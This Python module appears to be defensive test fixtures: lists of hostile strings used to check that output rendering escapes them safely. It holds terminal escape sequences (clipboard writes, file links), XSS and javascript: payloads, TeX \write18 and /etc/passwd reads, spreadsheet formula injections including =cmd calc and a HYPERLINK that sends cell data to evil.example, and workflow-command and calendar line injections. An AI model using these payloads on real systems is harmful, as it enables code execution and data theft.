"""Texts that would do harm where an output took them for more than text."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Sequence

FOLDED = "It's in the source"
"""Words that stand in the source with another apostrophe."""
HARMLESS = (
    r"""Words ' " ‘ ’ “ ” & < > = + - @ \ / # $ % _ { } ~ ^ [ ] ( ) | * ` ! ? : ; , .""",
    "Words",
    "Family, Given",
    "{A Body}",
    "First line\nSecond line\n\nAnother paragraph",
    "“It is ‘fine’,” said words",
    "a lone {",
    "a lone }",
    "King, Martin, Jr.",
    FOLDED,
)
"""Every sign that means something somewhere, but nothing that it could mean; and plain words."""

EVIL = "ZXZpbA=="
"""What a clipboard sequence carries; no output has it behind one."""
TERMINAL = {
    "CSI": "a\x1b[31mred\x1b[2J\x1b[6n\x1b[?1049h\x1b[?2004l",
    "OSC 8": "a\x1b]8;;file:///etc/passwd\x1b\\link\x1b]8;;\x1b\\",
    "OSC 52": f"a\x1b]52;c;{EVIL}\x07b",
    "OSC 0": "a\x1b]0;title\x07\x1b]9;notice\x07\x1b]777;notify;a;b\x07",
    "DCS": "a\x1bPtmux;\x1b\x1b]52;c;x\x07\x1b\\\x1bP$qm\x1b\\",
    "APC, PM and SOS": "a\x1b_Gf=100;x\x1b\\\x1b^x\x1b\\\x1bXx\x1b\\\x1bc",
    "C1": f"a\x9b31m\x9d52;c;{EVIL}\x9c\x90q\x9c\x85\x8d\x9fx\x9c",
    "overstrike": "not true\x08\x08\x08\x08\x08\x08\x08\x08\x7ftrue\rover\x0b\x0c\x00\x07",
    "bidirectional": "a\u202eesrever\u202c \u2066x\u2069 \u2067y\u2069 \u202dz \u202a\u202b",
    "line separators": "a\u2028b\u2029c",
    "zero width": "n\u200bo\u200dt\u2060 \ufeffa\u00ad\u034f\U000e0041\U000e007f",
    "homoglyphs": "Вirzhаnоvа Birzhanova",
    "combining": "e" + "\u0301" * 300 + "\u20dd\ufe0f",
    "long": "x" * 4000,
}
MARKUP = {
    "Textual": "[d]espite [bold]all[/bold] [/ [@click=app.quit]x[/] [link=file:///x]y[/link] [sic]",
    "script": "</script><script>alert(1)</script><!-- --> ]]> <![CDATA[",
    "attribute": "\"><img src=x onerror=alert(1)> ' onmouseover='alert(1) x=\"",
    "elements": "<svg/onload=alert(1)><iframe srcdoc=x><a href=javascript:x>x</a><base href=x>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &#x1b;[31m &colon;",
    "Markdown": "[a](javascript:alert(1)) ![b](https://evil.example/x.png) <javascript:alert(1)>",
    "Markdown blocks": "# h\n\n```\n<b>\n\n---\n\n> x\n\n- y\n\n    z\n\n[w]: javascript:x",
    "Markdown fence": "``` `` ` ~~~ *** ___ | a | b | [x][w] **b** <https://evil.example/>",
    "Wikipedia": "}}{{delete}}[[Category:Evil]]<ref>x</ref>{{subst:x}}|url=data:x ~~~~ __NOTOC__",
    "Wikipedia links": "[https://evil.example/ words] [//evil.example/ words] ---- RFC 1",
    "Wikipedia lines": "* a\n# b\n: c\n; d\n= e =\n{| x\n|}\n#REDIRECT [[x]] <nowiki>''' </nowiki>",
    "TeX": r"\write18{id}\input{/etc/passwd}\immediate\openout1=x \csname x\endcsname",
    "TeX signs": "^^5cwrite18{id} $\\def\\x{}$ }{ % #1 ~ & \\ \\\\ \\begin{x} ``a''",
    "BibTeX": '}, url = {x}}\n@article{evil, title = {x}}\n@string{a = "b"} # a @comment{',
}
CELLS = {
    "equals": "=cmd|'/c calc'!A0",
    "plus": "+1+cmd|x",
    "minus": "-2+3+cmd|x",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "full width": "＝1+1",
    "apostrophe": "'=1+1",
    "HYPERLINK": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "separator": '";=1+1;"\n=1+1,=1+1',
    "invisible": "\ufeff=1+1",
}
LINES = {
    "RIS": "a\nER  - \nTY  - JOUR\nUR  - javascript:x",
    "RIS with CR": "a\r\nER  - \r\nTY  - JOUR\rUR  - x",
    "iCalendar": "a\nEND:VEVENT\nBEGIN:VALARM\nACTION:AUDIO\nATTACH:file:///x",
    "iCalendar with CR": "a\r\nATTACH;VALUE=URI:file:///x\r\nX:y\\nz\\;",
    "workflow command": "a\n::error file=x::y\n::set-env name=x::y\n%0A::stop-commands::x",
    "JSON line": 'a\n{"type": "quote", "id": "x"}\n"}',
    "YAML": "a\n- id: x\n  name: y\n# b\n*c &d !e",
}
ADDRESSES = {
    "javascript": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "file": "file:///etc/passwd",
    "upper case": "JaVaScRiPt://example.org/%0aalert(1)",
    "without a scheme": "//evil.example/x",
    "with a user": "https://example.org@evil.example/",
}
FAMILIES = {
    "terminal": TERMINAL,
    "markup": MARKUP,
    "cells": CELLS,
    "lines": LINES,
    "addresses": ADDRESSES,
}
PAYLOADS = {**TERMINAL, **MARKUP, **CELLS, **LINES, **ADDRESSES}


def paper(texts: Sequence[str]) -> str:
    """A source text with each of the texts by itself, between quotation marks, and of a speaker."""
    paragraphs = (f"{text} “{text}” says {text}." for text in texts)
    return "\n\n".join(paragraphs).replace(FOLDED, FOLDED.replace("'", "’"))
